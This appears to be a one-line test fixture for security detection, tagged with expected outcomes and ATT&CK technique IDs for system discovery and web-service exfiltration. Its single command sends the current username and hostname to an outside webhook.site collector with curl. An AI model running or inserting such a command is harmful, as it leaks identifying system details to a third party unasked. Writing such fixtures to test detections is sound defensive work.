# expect: host-info-sent, collector-contacted | source: T1082, T1567
curl -s -d "$(whoami)@$(hostname)" https://webhook.site/00000000-look
